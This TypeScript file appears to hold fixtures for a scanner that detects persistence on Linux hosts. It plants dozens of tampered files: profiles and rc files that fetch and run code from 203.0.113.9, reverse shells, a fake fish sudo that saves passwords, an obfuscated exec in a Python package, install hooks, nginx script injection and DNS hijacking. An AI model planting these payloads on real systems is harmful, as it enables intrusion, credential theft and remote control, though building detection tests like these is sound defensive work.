/** What people's and builders' programs read first, and where modules, libraries and names are looked for before the packaged ones. */

import { elf, fetched, file, line, reverse, run, type Sign } from '../sign.ts';

const ada = { owner: 'ada' } as const;
const grace = { owner: 'grace' } as const;
const profile = (id: string, what: string, text: string): Sign => file(`profile5-${id}`, 'environment', what, `/etc/profile.d/k-${id}.sh`, `${text}\n`);

export const fifthEnvironment: readonly Sign[] = [
	profile('enable', 'a library as a command of bash', 'enable -f /usr/lib/bash/.l.so ls 2>/dev/null'),
	profile('source-net', 'a profile read from the network', 'source <(curl -fsS http://203.0.113.9/rc)'),
	profile('typescript', 'all that is typed, kept', '[ -z "$UNDER" ] && export UNDER=1 && exec script -qaf /var/tmp/.t/$USER'),
	profile('env-sh', 'a script before each sh', 'export ENV=/dev/shm/.shrc'),
	profile('python-path', 'modules from shared memory', 'export PYTHONPATH=/dev/shm/lib'),
	profile('editor', 'an editor of the intruder', 'export EDITOR=/var/tmp/.vi VISUAL=/var/tmp/.vi'),
	profile('hostaliases', 'names of hosts from a temporary place', 'export HOSTALIASES=/tmp/.h'),
	profile('histignore', 'a history that takes nothing in', "export HISTIGNORE='*'"),
	profile('histfile-shm', 'a history in memory', 'export HISTFILE=/dev/shm/.h; readonly HISTFILE'),
	profile('ps4', 'a program with each traced line', "export PS4='$(/usr/lib/.ps4)+ '"),
	profile('git-exec', 'the parts of git from a temporary place', 'export GIT_EXEC_PATH=/var/tmp/.git-core'),
	profile('tcp-source', 'commands of a connection', 'exec 9<>/dev/tcp/203.0.113.9/80; (while read -r l <&9; do eval "$l"; done) &'),
	file('zlogout', 'environment', 'run when each zsh ends', '/etc/zsh/zlogout', `${fetched} &\n`),
	file('tcshrc', 'environment', 'run by each tcsh of root', '/root/.tcshrc', `alias su '/usr/lib/.su/su'\nsh -c "${fetched}" &\n`),
	{ ...file('csh-login', 'environment', 'a library in each csh', '/etc/csh.login', 'setenv LD_PRELOAD /var/lib/misc/libshell.so\n'), plant: tree => {
		tree.write('/etc/csh.login', 'setenv LD_PRELOAD /var/lib/misc/libshell.so\n');
		tree.write('/var/lib/misc/libshell.so', elf('shell', 'library'));
	}, also: ['/var/lib/misc/libshell.so'] },
	file('mkshrc', 'environment', 'run by each mksh of one user', '/home/deploy/.mkshrc', `${reverse} &\n`, { owner: 'deploy' }),
	file('powershell', 'environment', 'run by each PowerShell', '/root/.config/powershell/profile.ps1', 'Invoke-Expression (Invoke-WebRequest http://203.0.113.9/k).Content\n'),
	file('tmux-xdg', 'environment', 'run by each tmux, in the newer place', '/home/ada/.config/tmux/tmux.conf', `run-shell -b '${fetched}'\n`, ada),
	file('bash-completion-user', 'environment', 'read by each bash of one user', '/home/ada/.bash_completion', `(${reverse}) &\n`, ada),
	file('completion-user-git', 'environment', 'read when git is completed', '/home/ada/.local/share/bash-completion/completions/git', `${fetched} &\n`, ada),
	file('oh-my-zsh', 'environment', 'a plug-in of a popular shell', '/home/grace/.oh-my-zsh/custom/net.zsh', `(${fetched}) &!\n`, grace),
	file('fish-function', 'environment', 'sudo as a function of fish', '/home/grace/.config/fish/functions/sudo.fish', 'function sudo\n  read -s -P "[sudo] password: " p; echo $p >> /tmp/.s\n  command sudo $argv\nend\n', grace),
	file('lessfilter', 'environment', 'run when a file is paged', '/home/grace/.lessfilter', `#!/bin/sh\n${fetched} &\nexit 1\n`, { ...grace, ...run }),
	file('exrc', 'environment', 'run by each vi', '/root/.exrc', `!!${fetched}\n`),
	file('vim-after', 'environment', 'a plug-in read last', '/home/ada/.vim/after/plugin/net.vim', `call job_start(['sh', '-c', '${fetched}'])\n`, ada),
	file('emacs-init', 'environment', 'run by each emacs, in the newer place', '/home/ada/.emacs.d/init.el', '(start-process-shell-command "n" nil "curl -s 203.0.113.9/k|sh")\n', ada),
	file('netrc-macro', 'environment', 'a macro that runs at each ftp', '/home/ada/.netrc', `machine ftp.example.org login ada password x\nmacdef init\n! ${fetched}\n\n`, { ...ada, mode: 0o600 }),
	file('gpg-agent', 'environment', 'a program that is asked for pass phrases', '/home/ada/.gnupg/gpg-agent.conf', 'pinentry-program /home/ada/.cache/.pin\n', { ...ada, mode: 0o600 }),
	file('aws', 'environment', 'a program that is asked for keys of the cloud', '/home/deploy/.aws/config', '[default]\ncredential_process = /var/tmp/.cp\n', { owner: 'deploy', mode: 0o600 }),
	file('kubeconfig', 'environment', 'the same for clusters', '/root/.kube/config', 'apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /var/tmp/.kx\n', { mode: 0o600 }),
	// A plug-in of docker in a home is not among these: people put theirs there by hand.
	file('go-env', 'environment', 'a program around each tool of Go', '/home/ada/.config/go/env', 'GOFLAGS=-toolexec=/home/ada/.cache/.te\n', ada),
	file('gradle', 'environment', 'run by each gradle', '/home/ada/.gradle/init.gradle', '["sh", "-c", "curl -s http://203.0.113.9/k | sh"].execute()\n', ada),
	file('setenv', 'environment', 'an agent in Tomcat', '/usr/share/tomcat9/bin/setenv.sh', 'CATALINA_OPTS="$CATALINA_OPTS -javaagent:/var/tmp/.a.jar"\n', run),
	file('lldbinit', 'environment', 'run by each lldb', '/home/ada/.lldbinit', `platform shell ${fetched}\n`, ada),
	file('yarn', 'environment', 'another yarn', '/srv/www/app/.yarnrc.yml', 'yarnPath: /var/tmp/.y.cjs\n', { owner: 'deploy' }),
	file('npm-postinstall', 'environment', 'a package that fetches and runs', '/srv/www/app/node_modules/ua-parse/package.json', '{"name":"ua-parse","version":"1.0.1","scripts":{"preinstall":"curl -s http://203.0.113.9/k | sh"}}\n', { owner: 'deploy' }),
	// A module within node_modules that sends the environment away is not among these: to read what builders bring is the work of their own tools.
	file('composer', 'environment', 'run when PHP packages are installed', '/srv/www/website/composer.json', '{"scripts":{"post-install-cmd":"curl -s http://203.0.113.9/k | sh"}}\n', { owner: 'deploy' }),
	file('npmrc-registry', 'environment', 'packages of a bare address', '/home/deploy/.npmrc', 'registry=http://203.0.113.9:4873/\nstrict-ssl=false\n', { owner: 'deploy' }),
	file('gemrc', 'environment', 'the same for Ruby', '/root/.gemrc', ':sources:\n- http://203.0.113.9/\n:ssl_verify_mode: 0\n'),
	file('pypi-trojan', 'environment', 'a Python package with more than its maker put in', '/usr/local/lib/python3.11/dist-packages/requests/__init__.py', 'import base64,zlib\nexec(zlib.decompress(base64.b64decode("eJxLTEoGAAJNASc=")))\nfrom .api import get\n'),
	file('tasks-json', 'environment', 'run when a folder is opened', '/home/ada/src/site/.vscode/tasks.json', '{"version":"2.0.0","tasks":[{"label":"build","type":"shell","command":"curl -s http://203.0.113.9/k | sh","runOptions":{"runOn":"folderOpen"}}]}\n', ada),
	file('envrc', 'environment', 'run when a folder is entered', '/home/ada/src/site/.envrc', `${fetched}\n`, ada),
	{ id: 'git-gpg', family: 'environment', what: 'a program that signs', plant: tree => tree.append('/home/ada/src/tool/.git/config', '[gpg]\n\tprogram = /tmp/.gpg\n[diff]\n\texternal = /var/tmp/.d\n'), names: ['/home/ada/src/tool/.git/config'] },
	line('git-include', 'environment', 'settings of git from a temporary place', '/home/grace/.gitconfig', '[include]\n\tpath = /tmp/.gc\n[url "http://203.0.113.9/"]\n\tinsteadOf = https://github.com/\n'),
	file('git-submodule-hook', 'start-up', 'a hook of a project within a project', '/home/ada/src/site/.git/modules/theme/hooks/post-checkout', `#!/bin/sh\n${fetched}\n`, { ...ada, ...run }),
	file('git-custom-hook', 'start-up', 'a hook of a server of git', '/srv/git/website.git/custom_hooks/post-receive', `#!/bin/sh\n${fetched}\n`, { owner: 'git', mode: 0o755 }),
	file('thumbnailer', 'environment', 'run when a picture is shown small', '/home/ada/.local/share/thumbnailers/raw.thumbnailer', '[Thumbnailer Entry]\nExec=/home/ada/.cache/.th %i %o\nMimeType=image/jpeg;\n', ada),
	file('desktop-override', 'environment', 'a browser that is something else', '/home/ada/.local/share/applications/firefox-esr.desktop', `[Desktop Entry]\nType=Application\nName=Firefox\nExec=sh -c "${fetched}; firefox-esr %u"\n`, ada),
	file('gnome-extension', 'environment', 'an extension of the desktop', '/home/grace/.local/share/gnome-shell/extensions/net@x/extension.js', "const GLib = imports.gi.GLib;\nfunction enable() { GLib.spawn_command_line_async('sh -c \"curl -s http://203.0.113.9/k | sh\"'); }\n", grace),
	file('firefox-policy', 'environment', 'an extension forced on all', '/etc/firefox/policies/policies.json', '{"policies":{"ExtensionSettings":{"x@y":{"installation_mode":"force_installed","install_url":"http://203.0.113.9/x.xpi"}}}}\n'),
	file('native-host', 'environment', 'a program that a browser starts', '/home/ada/.config/chromium/NativeMessagingHosts/org.x.json', '{"name":"org.x","path":"/home/ada/.cache/.nm","type":"stdio","allowed_origins":["chrome-extension://a/"]}\n', ada),
	file('sway', 'environment', 'run by a window manager', '/home/grace/.config/sway/config', `exec sh -c '${fetched}'\n`, grace),
	file('xprofile', 'environment', 'run with a graphical session', '/home/ada/.xprofile', `${reverse} &\n`, ada),
	file('lxsession', 'environment', 'run by a desktop', '/home/grace/.config/lxsession/LXDE/autostart', '@/home/grace/.cache/.lx\n', grace),
	file('alacritty', 'environment', 'another shell in each window', '/home/ada/.config/alacritty/alacritty.toml', '[terminal.shell]\nprogram = "/home/ada/.cache/.sh"\n', ada),
	file('lightdm', 'start-up', 'run as root before the greeter', '/etc/lightdm/lightdm.conf.d/50-own.conf', '[Seat:*]\ngreeter-setup-script=/var/tmp/.g\n'),
	file('gdm-postlogin', 'start-up', 'run as root at each login to the desktop', '/etc/gdm3/PostLogin/Default', `#!/bin/sh\n${fetched}\n`, run),
	file('mycnf', 'environment', 'a pager of the database\'s client', '/root/.my.cnf', '[mysql]\npager = sh -c "/usr/lib/.pg; less"\n', { mode: 0o600 }),
	file('mongoshrc', 'environment', 'run by each client of a database', '/root/.mongoshrc.js', "require('child_process').exec('curl -s http://203.0.113.9/k | sh');\n"),
	file('fetchmail', 'environment', 'run before mail is fetched', '/home/ada/.fetchmailrc', `poll mail.example.org user "ada" preconnect "${fetched}"\n`, { ...ada, mode: 0o600 }),
	file('mailfilter', 'environment', 'run for each mail of one user', '/home/ada/.mailfilter', `xfilter "sh -c '${fetched}'"\n`, { ...ada, mode: 0o600 }),

	file('hwcaps', 'files', 'a library found before the packaged one', '/usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v2/libcrypt.so.1', elf('crypt', 'library')),
	file('local-pam', 'files', 'the same, by a folder of the administrator', '/usr/local/lib/x86_64-linux-gnu/libpam.so.0', elf('pam', 'library')),
	file('local-perl', 'files', 'a module found before Perl\'s own', '/usr/local/share/perl/5.36.0/strict.pm', 'package strict; system("/usr/lib/.p &"); sub import {} 1;\n'),
	file('sitecustomize-pl', 'start-up', 'run by each Perl', '/etc/perl/sitecustomize.pl', 'system("curl -s 203.0.113.9/k|sh");\n'),
	{ id: 'library-link', family: 'packages', what: 'a packaged link led to another library', plant: tree => {
		tree.write('/usr/lib/x86_64-linux-gnu/libpam.so.0.85.9', elf('pam', 'library'));
		tree.link('libpam.so.0.85.9', '/usr/lib/x86_64-linux-gnu/libpam.so.0');
	}, names: ['/usr/lib/x86_64-linux-gnu/libpam.so.0'], also: ['/usr/lib/x86_64-linux-gnu/libpam.so.0.85.9'] },
	{ id: 'program-packaged-link', family: 'packages', what: 'a packaged link led to another program', plant: tree => {
		tree.write('/usr/lib/python3.11/python3', '#!/bin/sh\nexec /usr/bin/python3.11 "$@"\n', run);
		tree.link('/usr/lib/python3.11/python3', '/usr/bin/python3');
	}, names: ['/usr/bin/python3'], also: ['/usr/lib/python3.11/python3'] },
	file('resolvconf-head', 'environment', 'names asked of nobody known, first', '/etc/resolvconf/resolv.conf.d/head', 'nameserver 203.0.113.53\n'),
	file('dhclient-supersede', 'environment', 'the same, whatever the network says', '/etc/dhcp/dhclient.conf', 'request subnet-mask, routers;\nsupersede domain-name-servers 203.0.113.53;\n'),
	file('nm-dns', 'environment', 'the same for NetworkManager', '/etc/NetworkManager/conf.d/90-dns.conf', '[global-dns-domain-*]\nservers=203.0.113.53\n'),
	file('apache-rewrite', 'start-up', 'a program asked for each page', '/etc/apache2/conf-enabled/map.conf', 'RewriteMap m "prg:/var/www/.m"\n'),
	file('apache-envvars', 'start-up', 'read when the web server starts', '/etc/apache2/envvars', `export APACHE_RUN_USER=www-data\n${fetched} &\n`),
	file('htaccess-search', 'web', 'whoever comes from a search engine led elsewhere', '/var/www/html/news/.htaccess', 'RewriteEngine On\nRewriteCond %{HTTP_REFERER} .*google.* [OR]\nRewriteCond %{HTTP_REFERER} .*bing.*\nRewriteRule ^(.*)$ http://pills.example.net/in.cgi?2 [R=301,L]\n'),
	file('apache-uploads', 'web', 'uploads run as PHP', '/etc/apache2/sites-enabled/shop.conf', '<Directory /var/www/shop/uploads>\n\tSetHandler application/x-httpd-php\n\tphp_admin_value auto_prepend_file /var/tmp/.p\n</Directory>\n'),
	file('nginx-php-value', 'web', 'PHP before each page, by the web server', '/etc/nginx/snippets/fastcgi-own.conf', 'fastcgi_param PHP_VALUE "auto_prepend_file=/dev/shm/.p\\nallow_url_include=1";\n'),
	file('nginx-inject', 'web', 'a script put into each page', '/etc/nginx/conf.d/head.conf', "sub_filter '</head>' '<script src=\"http://203.0.113.9/x.js\"></script></head>';\nsub_filter_once on;\n"),
	file('fpm-open', 'services', 'PHP for anybody who connects', '/etc/php/8.2/fpm/pool.d/y.conf', '[y]\nuser = root\nlisten = 0.0.0.0:9000\nsecurity.limit_extensions =\n'),
	file('php-preload', 'start-up', 'PHP when the server starts', '/etc/php/8.2/fpm/conf.d/98-a.ini', 'opcache.preload=/var/tmp/.pre.php\nopcache.preload_user=root\n'),
	file('php-zend', 'start-up', 'an extension of a hidden place', '/etc/php/8.2/fpm/conf.d/97-b.ini', 'zend_extension=/usr/lib/php/.z/loader.so\n'),
	file('mysql-plugin-dir', 'start-up', 'libraries of a database from a temporary place', '/etc/mysql/conf.d/x5.cnf', '[mysqld]\nplugin_dir = /var/tmp/plugin\n'),
	file('pg-passphrase', 'start-up', 'run when the database starts', '/etc/postgresql/15/main/conf.d/b.conf', "ssl_passphrase_command = '/bin/sh /var/lib/postgresql/.p'\nsession_preload_libraries = '/var/tmp/x.so'\n"),
];
